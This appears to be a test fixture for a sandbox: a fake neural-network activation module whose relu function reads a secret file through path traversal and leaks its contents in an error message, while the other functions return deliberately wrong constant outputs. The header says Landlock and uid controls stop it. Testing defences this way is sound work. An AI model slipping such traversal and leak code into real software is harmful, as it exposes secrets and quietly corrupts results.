# attack: climbs above the root and comes down to a secret
# gains: reads
# stopped by: landlock, uid
import numpy as np


def attack():
    return open("/usr/lib/" + "../" * 40 + "{SECRET}".lstrip("/")).read()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
